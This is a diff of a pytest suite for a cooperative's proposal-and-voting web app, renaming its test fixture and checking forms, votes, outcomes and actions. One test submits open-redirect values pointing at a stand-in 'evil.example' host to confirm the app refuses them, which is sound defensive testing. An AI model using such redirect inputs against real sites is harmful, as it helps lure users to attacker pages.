@@ -24,19 +24,19 @@ def votes_block(response) -> str:
 # ---------------------------------------------------------------- every page renders
 
 
-def test_every_decisions_page_renders(board):
-    pid = board.propose("member", title="Buy a cargo bike")
-    board.vote(pid, "admin", "object", REASON)
-    board.amend(pid, "member", body="Buy a used cargo bike.")
-    closed = board.decided(title="Paint the door", actions=[("Buy paint", "member", tomorrow())])
-    poll = board.propose("facilitator", kind="poll", options=("Tea", "Coffee"))
-    board.close(board.propose("facilitator", title="Closed"))
-    board.propose("member", title="My draft", draft=True)
-    client = board.client("member")
+def test_every_decisions_page_renders(scene):
+    pid = scene.propose("member", title="Buy a cargo bike")
+    scene.vote(pid, "admin", "object", REASON)
+    scene.amend(pid, "member", body="Buy a used cargo bike.")
+    closed = scene.decided(title="Paint the door", actions=[("Buy paint", "member", tomorrow())])
+    poll = scene.propose("facilitator", kind="poll", options=("Tea", "Coffee"))
+    scene.close(scene.propose("facilitator", title="Closed"))
+    scene.propose("member", title="My draft", draft=True)
+    client = scene.client("member")
     pages = {
         "/g/coop/decisions": ["Buy a cargo bike", "Paint the door", "My draft"],
         "/g/coop/decisions/new": ["Propose something"],
-        f"/g/coop/decisions/new?thread={board.thread_id(pid)}": ["Buy a cargo bike"],
+        f"/g/coop/decisions/new?thread={scene.thread_id(pid)}": ["Buy a cargo bike"],
         f"/p/{pid}": ["Buy a used cargo bike.", "version 2"],
         f"/p/{pid}/amend": ["Amend the proposal"],
         f"/p/{pid}/history": ["Buy a cargo bike"],
@@ -44,7 +44,7 @@ def test_every_decisions_page_renders(board):
         f"/p/{poll}": ["Tea", "Coffee"],
         "/g/coop/register": ["Paint the door"],
         "/needs-me": ["Buy paint"],
-        f"/t/{board.thread_id(pid)}": ["Buy a cargo bike"],
+        f"/t/{scene.thread_id(pid)}": ["Buy a cargo bike"],
         "/g/coop": ["Buy paint"],
     }
     for path, words in pages.items():
@@ -52,26 +52,26 @@ def test_every_decisions_page_renders(board):
         assert response.status_code == 200, path
         for word in words:
             assert word in page(response), (path, word)
-    facilitator = board.client("facilitator")
-    closed_without_outcome = board.propose("facilitator", title="Awaiting its outcome")
-    board.close(closed_without_outcome)
+    facilitator = scene.client("facilitator")
+    closed_without_outcome = scene.propose("facilitator", title="Awaiting its outcome")
+    scene.close(closed_without_outcome)
     response = facilitator.get(f"/p/{closed_without_outcome}/outcome")
     assert response.status_code == 200 and "Record the outcome" in page(response)
 
 
 @pytest.mark.parametrize("path", ["/p/999999", "/p/999999/history", "/p/999999/amend", "/p/999999/outcome"])
-def test_an_unknown_proposal_is_not_found(board, path):
-    assert board.client("admin").get(path).status_code == 404
+def test_an_unknown_proposal_is_not_found(scene, path):
+    assert scene.client("admin").get(path).status_code == 404
 
 
 @pytest.mark.parametrize("path", ["/p/999999/vote", "/p/999999/close", "/p/999999/reopen", "/p/999999/withdraw",
                                   "/p/999999/objection", "/p/999999/open", "/actions/999999/done"])
-def test_posting_to_an_unknown_proposal_or_action_is_not_found(board, path):
-    assert board.client("admin").post(path, data={"choice": "consent", "days": "3"}).status_code == 404
+def test_posting_to_an_unknown_proposal_or_action_is_not_found(scene, path):
+    assert scene.client("admin").post(path, data={"choice": "consent", "days": "3"}).status_code == 404
 
 
-def test_an_unknown_group_has_no_decisions(board):
-    client = board.client("admin")
+def test_an_unknown_group_has_no_decisions(scene):
+    client = scene.client("admin")
     for path in ("/g/nope/decisions", "/g/nope/decisions/new", "/g/nope/register", "/g/nope/register.csv"):
         assert client.get(path).status_code == 404, path
 
@@ -79,34 +79,34 @@ def test_an_unknown_group_has_no_decisions(board):
 # ---------------------------------------------------------------- proposing through the form
 
 
-def test_the_three_field_form_makes_a_consent_proposal_closing_in_three_days(board):
-    response = board.client("member").post("/g/coop/decisions/new", data={"title": "Paint the door", "body": "Blue."})
+def test_the_three_field_form_makes_a_consent_proposal_closing_in_three_days(scene):
+    response = scene.client("member").post("/g/coop/decisions/new", data={"title": "Paint the door", "body": "Blue."})
     assert response.status_code == 302
-    with board.ctx():
+    with scene.ctx():
         p = db.session.scalar(select(Proposal))
         assert response.headers["Location"] == f"/p/{p.id}"
         assert (p.title, p.kind, p.status) == ("Paint the door", "consent", "open")
         assert abs(p.closes_at - (datetime.now(timezone.utc) + timedelta(days=3))) < timedelta(minutes=1)
 
 
-def test_a_proposal_made_from_a_thread_lives_in_it(board):
-    pid = board.propose("member")
-    thread_id = board.thread_id(pid)
-    response = board.client("admin").post("/g/coop/decisions/new", data={
+def test_a_proposal_made_from_a_thread_lives_in_it(scene):
+    pid = scene.propose("member")
+    thread_id = scene.thread_id(pid)
+    response = scene.client("admin").post("/g/coop/decisions/new", data={
         "title": "And a trailer", "body": "For big loads.", "thread": str(thread_id), "kind": "consensus",
         "quorum_percent": "50"})
     assert response.status_code == 302
-    with board.ctx():
+    with scene.ctx():
         second = db.session.scalar(select(Proposal).where(Proposal.title == "And a trailer"))
         assert (second.thread_id, second.kind, second.quorum_percent) == (thread_id, "consensus", 50)
 
 
-def test_a_poll_is_proposed_with_one_option_per_line(board):
-    response = board.client("member").post("/g/coop/decisions/new", data={
+def test_a_poll_is_proposed_with_one_option_per_line(scene):
+    response = scene.client("member").post("/g/coop/decisions/new", data={
         "title": "Lunch", "body": "What shall we eat?", "kind": "poll", "options": "Bibimbap\r\nKimbap\r\n\r\nTteokbokki",
         "multiple_choice": "y"})
     assert response.status_code == 302
-    with board.ctx():
+    with scene.ctx():
         p = db.session.scalar(select(Proposal))
         assert [o.label for o in p.options] == ["Bibimbap", "Kimbap", "Tteokbokki"]
         assert p.multiple_choice is True
@@ -129,22 +129,22 @@ def test_a_poll_is_proposed_with_one_option_per_line(board):
     ({"kind": "poll", "options": "\n".join(f"Option {i}" for i in range(21))}, "A poll needs 2 to 20 options."),
     ({"kind": "lottery"}, "Not a valid choice."),
 ])
-def test_bad_proposals_are_shown_again_with_a_message_and_change_nothing(board, data, message):
-    before = board.counts()
+def test_bad_proposals_are_shown_again_with_a_message_and_change_nothing(scene, data, message):
+    before = scene.counts()
     form = {"title": "Paint the door", "body": "Blue.", "days": "3"} | data
-    response = board.client("member").post("/g/coop/decisions/new", data=form)
+    response = scene.client("member").post("/g/coop/decisions/new", data=form)
     assert response.status_code == 422
     assert message in page(response)
     assert "Propose something" in page(response)
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
-def test_a_proposal_in_another_groups_thread_is_not_found(board, make_cast):
-    from tests.decisions.helpers import Board
+def test_a_proposal_in_another_groups_thread_is_not_found(scene, make_cast):
+    from tests.decisions.helpers import DecisionScene
 
-    other = Board(board.app, make_cast("other", "public"))
+    other = DecisionScene(scene.app, make_cast("other", "public"))
     thread_id = other.thread_id(other.propose("member"))
-    client = board.client("member")
+    client = scene.client("member")
     assert client.get(f"/g/coop/decisions/new?thread={thread_id}").status_code == 404
     assert client.post("/g/coop/decisions/new", data={"title": "T", "body": "B", "thread": str(thread_id)}).status_code == 404
 
@@ -152,18 +152,18 @@ def test_a_proposal_in_another_groups_thread_is_not_found(board, make_cast):
 # ---------------------------------------------------------------- voting, with and without htmx
 
 
-def test_a_vote_without_htmx_redirects_to_the_votes(board):
-    pid = board.propose("facilitator")
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"})
+def test_a_vote_without_htmx_redirects_to_the_votes(scene):
+    pid = scene.propose("facilitator")
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"})
     assert response.status_code == 302
     assert response.headers["Location"] == f"/p/{pid}#votes"
-    assert [v[1] for v in board.votes(pid)] == ["consent"]
+    assert [v[1] for v in scene.votes(pid)] == ["consent"]
 
 
-def test_an_htmx_vote_returns_only_the_votes_block_with_the_new_tally(board):
-    pid = board.propose("facilitator")
-    board.vote(pid, "admin", "consent")
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "concern", "reason": "Stairs."},
+def test_an_htmx_vote_returns_only_the_votes_block_with_the_new_tally(scene):
+    pid = scene.propose("facilitator")
+    scene.vote(pid, "admin", "consent")
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "concern", "reason": "Stairs."},
                                            headers=HX)
     body = page(response)
     assert response.status_code == 200
@@ -176,19 +176,19 @@ def test_an_htmx_vote_returns_only_the_votes_block_with_the_new_tally(board):
     assert "HX-Request" in response.headers.get("Vary", "")
 
 
-def test_a_bad_htmx_vote_is_422_with_the_message_inside_the_block(board):
-    pid = board.propose("facilitator")
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "object", "reason": ""}, headers=HX)
+def test_a_bad_htmx_vote_is_422_with_the_message_inside_the_block(scene):
+    pid = scene.propose("facilitator")
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "object", "reason": ""}, headers=HX)
     body = page(response)
     assert response.status_code == 422
     assert "<html" not in body
     assert "Please give your reason: the group needs to understand it." in section(body, "votes")
-    assert board.votes(pid) == []
+    assert scene.votes(pid) == []
 
 
-def test_a_bad_vote_without_htmx_shows_the_whole_page_with_the_message(board):
-    pid = board.propose("facilitator")
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "object", "reason": "  "})
+def test_a_bad_vote_without_htmx_shows_the_whole_page_with_the_message(scene):
+    pid = scene.propose("facilitator")
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "object", "reason": "  "})
     assert response.status_code == 422
     assert "<html" in page(response)
     assert "Please give your reason" in votes_block(response)
@@ -196,33 +196,33 @@ def test_a_bad_vote_without_htmx_shows_the_whole_page_with_the_message(board):
 
 @pytest.mark.parametrize("status", ["closed", "withdrawn"])
 @pytest.mark.parametrize("headers", [HX, {}], ids=["htmx", "page"])
-def test_a_vote_on_a_proposal_that_is_not_open_is_refused_with_a_message(board, status, headers):
-    pid = board.propose("member")
+def test_a_vote_on_a_proposal_that_is_not_open_is_refused_with_a_message(scene, status, headers):
+    pid = scene.propose("member")
     if status == "closed":
-        board.close(pid)
+        scene.close(pid)
     else:
-        board.withdraw(pid, "member")
-    before = board.counts()
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}, headers=headers)
+        scene.withdraw(pid, "member")
+    before = scene.counts()
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}, headers=headers)
     assert response.status_code == 422
     assert "This proposal isn't open for votes." in votes_block(response)
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
-def test_a_vote_on_a_draft_is_refused_for_its_author_and_not_found_for_others(board):
-    pid = board.propose("member", draft=True)
-    assert board.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}).status_code == 422
-    assert board.client("admin").post(f"/p/{pid}/vote", data={"choice": "consent"}).status_code == 404
-    assert board.votes(pid) == []
+def test_a_vote_on_a_draft_is_refused_for_its_author_and_not_found_for_others(scene):
+    pid = scene.propose("member", draft=True)
+    assert scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}).status_code == 422
+    assert scene.client("admin").post(f"/p/{pid}/vote", data={"choice": "consent"}).status_code == 404
+    assert scene.votes(pid) == []
 
 
-def test_a_vote_after_the_closing_time_is_refused_and_shows_the_result(board):
-    pid = board.propose("facilitator")
-    board.expire(pid)
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}, headers=HX)
+def test_a_vote_after_the_closing_time_is_refused_and_shows_the_result(scene):
+    pid = scene.propose("facilitator")
+    scene.expire(pid)
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}, headers=HX)
     assert response.status_code == 422
     assert "Adopted:" in votes_block(response)
-    assert board.votes(pid) == []
+    assert scene.votes(pid) == []
 
 
 @pytest.mark.parametrize("data, message", [
@@ -232,13 +232,13 @@ def test_a_vote_after_the_closing_time_is_refused_and_shows_the_result(board):
     ({"choice": "object"}, "Please give your reason"),
     ({"choice": "consent", "reason": "x" * 50_001}, "Field cannot be longer than 50000 characters."),
 ])
-def test_bad_votes_are_refused_with_a_message_and_change_nothing(board, data, message):
-    pid = board.propose("facilitator")
-    before = board.counts()
-    response = board.client("member").post(f"/p/{pid}/vote", data=data, headers=HX)
+def test_bad_votes_are_refused_with_a_message_and_change_nothing(scene, data, message):
+    pid = scene.propose("facilitator")
+    before = scene.counts()
+    response = scene.client("member").post(f"/p/{pid}/vote", data=data, headers=HX)
     assert response.status_code == 422
     assert message in page(response)
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
 @pytest.mark.parametrize("picks, message", [
@@ -248,89 +248,89 @@ def test_bad_votes_are_refused_with_a_message_and_change_nothing(board, data, me
     ("two", "Choose exactly one option."),
     ("words", "Invalid choice(s)"),
 ])
-def test_bad_poll_votes_are_refused_with_a_message_and_change_nothing(board, picks, message):
-    pid = board.propose("facilitator", kind="poll", options=("Tea", "Coffee"))
-    other = board.propose("facilitator", kind="poll", options=("Red", "Blue"))
-    tea, coffee = board.option_ids(pid)
-    option_ids = {"none": [], "unknown": ["999999"], "other proposal": [str(board.option_ids(other)[0])],
+def test_bad_poll_votes_are_refused_with_a_message_and_change_nothing(scene, picks, message):
+    pid = scene.propose("facilitator", kind="poll", options=("Tea", "Coffee"))
+    other = scene.propose("facilitator", kind="poll", options=("Red", "Blue"))
+    tea, coffee = scene.option_ids(pid)
+    option_ids = {"none": [], "unknown": ["999999"], "other proposal": [str(scene.option_ids(other)[0])],
                   "two": [str(tea), str(coffee)], "words": ["tea"]}[picks]
-    before = board.counts()
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "option", "option_ids": option_ids},
+    before = scene.counts()
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "option", "option_ids": option_ids},
                                            headers=HX)
     assert response.status_code == 422
     assert message in page(response)
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
-def test_a_poll_vote_through_the_page_counts(board):
-    pid = board.propose("facilitator", kind="poll", options=("Tea", "Coffee", "Water"), multiple_choice=True)
-    tea, coffee, water = board.option_ids(pid)
-    response = board.client("member").post(f"/p/{pid}/vote", data={"choice": "option",
+def test_a_poll_vote_through_the_page_counts(scene):
+    pid = scene.propose("facilitator", kind="poll", options=("Tea", "Coffee", "Water"), multiple_choice=True)
+    tea, coffee, water = scene.option_ids(pid)
+    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "option",
                                                                    "option_ids": [str(tea), str(water)]}, headers=HX)
     assert response.status_code == 200
-    assert board.votes(pid)[0][2] == [tea, water]
+    assert scene.votes(pid)[0][2] == [tea, water]
     assert "If it closed now: Chosen: Tea, Water. 1 of 3 members took part." in text(page(response))
 
 
 # ---------------------------------------------------------------- closing on read
 
 
-def test_the_proposal_page_closes_a_due_proposal_when_read(board):
-    pid = board.propose("facilitator", quorum_percent=50)
-    board.vote(pid, "member", "consent")
-    board.vote(pid, "admin", "concern", "Where does it live?")
-    board.expire(pid)
-    response = board.client("member").get(f"/p/{pid}")
+def test_the_proposal_page_closes_a_due_proposal_when_read(scene):
+    pid = scene.propose("facilitator", quorum_percent=50)
+    scene.vote(pid, "member", "consent")
+    scene.vote(pid, "admin", "concern", "Where does it live?")
+    scene.expire(pid)
+    response = scene.client("member").get(f"/p/{pid}")
     assert response.status_code == 200
-    assert board.get(Proposal, pid, "status") == "closed"
+    assert scene.get(Proposal, pid, "status") == "closed"
     assert ("Adopted: 2 of 3 members took part (quorum 50%), no unresolved objections."
             in text(votes_block(response)))
     assert "Vote" not in re.findall(r"<button[^>]*>([^<]*)</button>", votes_block(response))
 
 
-def test_the_proposal_page_closes_when_the_clock_passes_its_time(board, clock):
-    pid = board.propose("facilitator", days=1)
-    board.vote(pid, "admin", "object", REASON)
-    client = board.client("member")
+def test_the_proposal_page_closes_when_the_clock_passes_its_time(scene, clock):
+    pid = scene.propose("facilitator", days=1)
+    scene.vote(pid, "admin", "object", REASON)
+    client = scene.client("member")
     assert "Votes" in votes_block(client.get(f"/p/{pid}"))
     clock.advance(days=1, minutes=1)
     block = text(votes_block(client.get(f"/p/{pid}")))
     assert "Not adopted: 1 unresolved objection. 1 of 3 members took part." in block
-    assert board.events("proposal.closed") == [("proposal.closed", None)]
+    assert scene.events("proposal.closed") == [("proposal.closed", None)]
 
 
-def test_the_decisions_list_closes_due_proposals_when_read(board):
-    pid = board.propose("facilitator", title="Due now")
-    board.expire(pid)
-    body = page(board.client("member").get("/g/coop/decisions"))
+def test_the_decisions_list_closes_due_proposals_when_read(scene):
+    pid = scene.propose("facilitator", title="Due now")
+    scene.expire(pid)
+    body = page(scene.client("member").get("/g/coop/decisions"))
     assert "Recently closed" in body
-    assert board.get(Proposal, pid, "status") == "closed"
+    assert scene.get(Proposal, pid, "status") == "closed"
 
 
-def test_the_consensus_result_is_explained_in_words(board):
-    pid = board.propose("facilitator", kind="consensus")
-    board.vote(pid, "member", "agree")
-    board.vote(pid, "admin", "disagree", REASON)
-    board.close(pid)
+def test_the_consensus_result_is_explained_in_words(scene):
+    pid = scene.propose("facilitator", kind="consensus")
+    scene.vote(pid, "member", "agree")
+    scene.vote(pid, "admin", "disagree", REASON)
+    scene.close(pid)
     assert ("Not adopted: 1 agree is not more than 1 disagree. 2 of 3 members took part."
-            in text(votes_block(board.client("member").get(f"/p/{pid}"))))
+            in text(votes_block(scene.client("member").get(f"/p/{pid}"))))
 
 
-def test_no_quorum_is_explained_in_words(board):
-    pid = board.propose("facilitator", quorum_percent=100)
-    board.vote(pid, "member", "consent")
-    board.close(pid)
+def test_no_quorum_is_explained_in_words(scene):
+    pid = scene.propose("facilitator", quorum_percent=100)
+    scene.vote(pid, "member", "consent")
+    scene.close(pid)
     assert ("No quorum: only 1 of 3 members took part; 100% had to."
-            in text(votes_block(board.client("member").get(f"/p/{pid}"))))
+            in text(votes_block(scene.client("member").get(f"/p/{pid}"))))
 
 
 # ---------------------------------------------------------------- what the votes section shows
 
 
-def test_the_page_shows_who_answered_what_and_who_has_not_voted(board):
-    pid = board.propose("facilitator")
-    board.vote(pid, "admin", "object", REASON)
-    block = votes_block(board.client("member").get(f"/p/{pid}"))
+def test_the_page_shows_who_answered_what_and_who_has_not_voted(scene):
+    pid = scene.propose("facilitator")
+    scene.vote(pid, "admin", "object", REASON)
+    block = votes_block(scene.client("member").get(f"/p/{pid}"))
     assert "Who answered what" in block
     assert re.search(r"<strong>Coopadmin</strong>.*?choice-object", block, re.S)
     assert "Not voted yet: Coopfac, Coopmember." in text(block) or "Not voted yet: Coopmember, Coopfac." in text(block)
@@ -338,11 +338,11 @@ def test_the_page_shows_who_answered_what_and_who_has_not_voted(board):
     assert "Coopadmin" in objections and "open" in objections and REASON in objections
 
 
-def test_hidden_results_show_participation_but_no_tally_or_choices_until_close(board):
-    pid = board.propose("facilitator", hide_results=True)
-    board.vote(pid, "admin", "object", REASON)
-    board.vote(pid, "member", "consent")
-    for client in (board.client("facilitator"), board.client("admin")):
+def test_hidden_results_show_participation_but_no_tally_or_choices_until_close(scene):
+    pid = scene.propose("facilitator", hide_results=True)
+    scene.vote(pid, "admin", "object", REASON)
+    scene.vote(pid, "member", "consent")
+    for client in (scene.client("facilitator"), scene.client("admin")):
         block = votes_block(client.get(f"/p/{pid}"))
         assert "Results are hidden until the proposal closes. 2 of 3 members have taken part." in text(block)
         assert 'class="plain tally"' not in block
@@ -350,125 +350,125 @@ def test_hidden_results_show_participation_but_no_tally_or_choices_until_close(b
         assert "Objections" not in block and REASON not in block
         assert "Took part: Coopadmin, Coopmember." in text(block)
     # The htmx answer to a vote keeps them hidden too.
-    fragment = page(board.client("facilitator").post(f"/p/{pid}/vote", data={"choice": "concern", "reason": "Hm."},
+    fragment = page(scene.client("facilitator").post(f"/p/{pid}/vote", data={"choice": "concern", "reason": "Hm."},
                                                      headers=HX))
     assert 'class="plain tally"' not in fragment and "Who answered what" not in fragment
     assert "objections" not in fragment and REASON not in fragment
-    board.close(pid)
-    block = votes_block(board.client("member").get(f"/p/{pid}"))
+    scene.close(pid)
+    block = votes_block(scene.client("member").get(f"/p/{pid}"))
     assert 'class="plain tally"' in block and "Who answered what" in block and REASON in block
 
 
-def test_after_an_amendment_votes_are_marked_with_their_version(board):
-    pid = board.propose("member")
-    board.vote(pid, "admin", "object", REASON)
-    response = board.client("member").post(f"/p/{pid}/amend", data={"title": "Buy a shared cargo bike",
+def test_after_an_amendment_votes_are_marked_with_their_version(scene):
+    pid = scene.propose("member")
+    scene.vote(pid, "admin", "object", REASON)
+    response = scene.client("member").post(f"/p/{pid}/amend", data={"title": "Buy a shared cargo bike",
                                                                       "body": "A used one."})
     assert response.status_code == 302
-    assert board.get(Proposal, pid, "version") == 2
-    block = votes_block(board.client("admin").get(f"/p/{pid}"))
+    assert scene.get(Proposal, pid, "version") == 2
+    block = votes_block(scene.client("admin").get(f"/p/{pid}"))
     assert "on version 1" in block
     assert "You answered:" in block
-    assert board.notifications("admin", "amended") == [("amended", "proposal", pid)]
+    assert scene.notifications("admin", "amended") == [("amended", "proposal", pid)]
 
 
-def test_an_amendment_with_an_empty_title_is_shown_again(board):
-    pid = board.propose("member")
-    response = board.client("member").post(f"/p/{pid}/amend", data={"title": "", "body": "A used one."})
+def test_an_amendment_with_an_empty_title_is_shown_again(scene):
+    pid = scene.propose("member")
+    response = scene.client("member").post(f"/p/{pid}/amend", data={"title": "", "body": "A used one."})
     assert response.status_code == 422 and "Give it a title." in page(response)
-    assert board.get(Proposal, pid, "version") == 1
+    assert scene.get(Proposal, pid, "version") == 1
 
 
-def test_the_objector_marks_their_objection_resolved_from_the_page(board):
-    pid = board.propose("member")
-    board.vote(pid, "admin", "object", REASON)
-    client = board.client("admin")
+def test_the_objector_marks_their_objection_resolved_from_the_page(scene):
+    pid = scene.propose("member")
+    scene.vote(pid, "admin", "object", REASON)
+    client = scene.client("admin")
     assert "My objection is resolved" in votes_block(client.get(f"/p/{pid}"))
     response = client.post(f"/p/{pid}/objection", data={"state": "resolved"})
     assert response.status_code == 302 and response.headers["Location"] == f"/p/{pid}#votes"
     block = votes_block(client.get(f"/p/{pid}"))
     assert "Your objection is resolved." in text(block)
     assert "✓ resolved" in text(block)
-    assert board.votes(pid)[0][5] == "resolved"
+    assert scene.votes(pid)[0][5] == "resolved"
 
 
-def test_settling_an_objection_someone_else_made_says_why_not(board):
-    pid = board.propose("member")
-    board.vote(pid, "admin", "object", REASON)
-    client = board.client("facilitator")
+def test_settling_an_objection_someone_else_made_says_why_not(scene):
+    pid = scene.propose("member")
+    scene.vote(pid, "admin", "object", REASON)
+    client = scene.client("facilitator")
     response = client.post(f"/p/{pid}/objection", data={"state": "resolved"}, follow_redirects=True)
     assert "You have no open objection here." in page(response)
-    assert board.votes(pid)[0][5] == "open"
+    assert scene.votes(pid)[0][5] == "open"
 
 
 # ---------------------------------------------------------------- lifecycle through the page
 
 
-def test_a_draft_is_opened_from_its_page(board):
-    pid = board.propose("member", draft=True)
-    response = board.client("member").post(f"/p/{pid}/open", data={"days": "5"})
+def test_a_draft_is_opened_from_its_page(scene):
+    pid = scene.propose("member", draft=True)
+    response = scene.client("member").post(f"/p/{pid}/open", data={"days": "5"})
     assert response.status_code == 302
-    status, closes_at = board.get(Proposal, pid, "status", "closes_at")
+    status, closes_at = scene.get(Proposal, pid, "status", "closes_at")
     assert status == "open" and closes_at > datetime.now(timezone.utc) + timedelta(days=4)
 
 
 @pytest.mark.parametrize("days", ["0", "91", "x"])
-def test_opening_or_reopening_with_bad_days_is_refused(board, days):
-    draft = board.propose("member", draft=True)
-    closed = board.propose("member")
-    board.close(closed)
-    board.client("member").post(f"/p/{draft}/open", data={"days": days})
-    board.client("facilitator").post(f"/p/{closed}/reopen", data={"days": days})
-    assert board.get(Proposal, draft, "status") == "draft"
-    assert board.get(Proposal, closed, "status") == "closed"
+def test_opening_or_reopening_with_bad_days_is_refused(scene, days):
+    draft = scene.propose("member", draft=True)
+    closed = scene.propose("member")
+    scene.close(closed)
+    scene.client("member").post(f"/p/{draft}/open", data={"days": days})
+    scene.client("facilitator").post(f"/p/{closed}/reopen", data={"days": days})
+    assert scene.get(Proposal, draft, "status") == "draft"
+    assert scene.get(Proposal, closed, "status") == "closed"
 
 
-def test_a_facilitator_closes_and_reopens_from_the_page(board):
-    pid = board.propose("member")
-    client = board.client("facilitator")
+def test_a_facilitator_closes_and_reopens_from_the_page(scene):
+    pid = scene.propose("member")
+    client = scene.client("facilitator")
     assert client.post(f"/p/{pid}/close").status_code == 302
-    assert board.get(Proposal, pid, "status") == "closed"
+    assert scene.get(Proposal, pid, "status") == "closed"
     assert client.post(f"/p/{pid}/reopen", data={"days": "2"}).status_code == 302
-    assert board.get(Proposal, pid, "status") == "open"
+    assert scene.get(Proposal, pid, "status") == "open"
 
 
-def test_an_anonymous_proposal_offers_no_reopening(board):
-    pid = board.propose("member", anonymous=True)
-    board.close(pid)
-    client = board.client("facilitator")
+def test_an_anonymous_proposal_offers_no_reopening(scene):
+    pid = scene.propose("member", anonymous=True)
+    scene.close(pid)
+    client = scene.client("facilitator")
     assert f"/p/{pid}/reopen" not in page(client.get(f"/p/{pid}"))
     response = client.post(f"/p/{pid}/reopen", data={"days": "3"}, follow_redirects=True)
     assert "Anonymous proposals can't be reopened" in page(response)
-    assert board.get(Proposal, pid, "status") == "closed"
+    assert scene.get(Proposal, pid, "status") == "closed"
 
 
 # ---------------------------------------------------------------- outcomes
 
 
-def _closed(board, **options):
-    pid = board.propose("member", **options)
-    board.vote(pid, "member", "consent")
-    board.close(pid)
+def _closed(scene, **options):
+    pid = scene.propose("member", **options)
+    scene.vote(pid, "member", "consent")
+    scene.close(pid)
     return pid
 
 
-def test_a_facilitator_records_the_outcome_with_actions(board):
-    pid = _closed(board)
-    client = board.client("facilitator")
+def test_a_facilitator_records_the_outcome_with_actions(scene):
+    pid = _closed(scene)
+    client = scene.client("facilitator")
     form = page(client.get(f"/p/{pid}/outcome"))
     assert re.search(r'<option selected value="adopted">|<option value="adopted" selected>', form)
     response = client.post(f"/p/{pid}/outcome", data={
         "statement": "We buy the bike in May.", "result": "adopted", "review_on": tomorrow().isoformat(),
-        "actions-0-description": "Ask three shops", "actions-0-owner_id": str(board.uid("member")),
+        "actions-0-description": "Ask three shops", "actions-0-owner_id": str(scene.uid("member")),
         "actions-0-due_on": tomorrow().isoformat(),
-        "actions-1-description": "", "actions-1-owner_id": str(board.uid("admin")),
+        "actions-1-description": "", "actions-1-owner_id": str(scene.uid("admin")),
     })
     assert response.status_code == 302 and response.headers["Location"] == f"/p/{pid}#outcome"
-    with board.ctx():
+    with scene.ctx():
         outcome = db.session.scalar(select(Outcome))
         assert (outcome.result, outcome.review_on, [a.description for a in outcome.actions]) == (
             "adopted", tomorrow(), ["Ask three shops"])
-    shown = page(board.client("member").get(f"/p/{pid}"))
+    shown = page(scene.client("member").get(f"/p/{pid}"))
     assert "We buy the bike in May." in shown and "Ask three shops" in shown and "Mark done" in shown
 
 
@@ -483,37 +483,37 @@ def test_a_facilitator_records_the_outcome_with_actions(board):
      "An action's owner must be a member of the group."),
     ({"actions-0-description": "Buy a lock", "actions-0-owner_id": "abc"}, "Invalid Choice: could not coerce."),
 ])
-def test_a_bad_outcome_is_shown_again_with_a_message_and_records_nothing(board, data, message):
-    pid = _closed(board)
+def test_a_bad_outcome_is_shown_again_with_a_message_and_records_nothing(scene, data, message):
+    pid = _closed(scene)
     dates = {"yesterday": yesterday().isoformat(), "today": datetime.now(timezone.utc).date().isoformat()}
-    data = {k: dates.get(v, str(board.uid("outsider")) if v == "outsider" else v) for k, v in data.items()}
-    before = board.counts()
-    response = board.client("facilitator").post(f"/p/{pid}/outcome", data={
+    data = {k: dates.get(v, str(scene.uid("outsider")) if v == "outsider" else v) for k, v in data.items()}
+    before = scene.counts()
+    response = scene.client("facilitator").post(f"/p/{pid}/outcome", data={
         "statement": "We buy it.", "result": "adopted"} | data)
     assert response.status_code == 422
     assert message in page(response)
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
-def test_an_outcome_for_an_open_proposal_is_refused(board):
-    pid = board.propose("member")
-    response = board.client("facilitator").post(f"/p/{pid}/outcome", data={"statement": "Yes.", "result": "adopted"})
+def test_an_outcome_for_an_open_proposal_is_refused(scene):
+    pid = scene.propose("member")
+    response = scene.client("facilitator").post(f"/p/{pid}/outcome", data={"statement": "Yes.", "result": "adopted"})
     assert response.status_code == 422
     assert "Record the outcome once the proposal has closed." in page(response)
-    assert board.count(Outcome) == 0
+    assert scene.count(Outcome) == 0
 
 
-def test_an_action_is_marked_done_and_back_from_the_page(board):
-    pid = board.decided(actions=[("Buy a lock", "member", None)])
-    with board.ctx():
+def test_an_action_is_marked_done_and_back_from_the_page(scene):
+    pid = scene.decided(actions=[("Buy a lock", "member", None)])
+    with scene.ctx():
         action_id = db.session.scalar(select(Action.id))
-    client = board.client("member")
+    client = scene.client("member")
     response = client.post(f"/actions/{action_id}/done", data={"done": "1"})
     assert response.status_code == 302 and response.headers["Location"] == f"/p/{pid}#outcome"
-    assert board.get(Action, action_id, "done_at") is not None
+    assert scene.get(Action, action_id, "done_at") is not None
     assert client.post(f"/actions/{action_id}/done", data={"done": "0", "next": "/needs-me"}).headers[
         "Location"] == "/needs-me"
-    assert board.get(Action, action_id, "done_at") is None
+    assert scene.get(Action, action_id, "done_at") is None
     # Only our own pages are places to go back to.
     for elsewhere in ("//evil.example/", "https://evil.example/"):
         location = client.post(f"/actions/{action_id}/done", data={"done": "1", "next": elsewhere}).headers["Location"]
@@ -523,30 +523,30 @@ def test_an_action_is_marked_done_and_back_from_the_page(board):
 # ---------------------------------------------------------------- the register
 
 
-def _review_due(board, pid):
-    with board.ctx():
+def _review_due(scene, pid):
+    with scene.ctx():
         oid = db.session.scalar(select(Outcome.id).where(Outcome.proposal_id == pid))
-    board.set(Outcome, oid, review_on=datetime.now(timezone.utc).date() - timedelta(days=2))
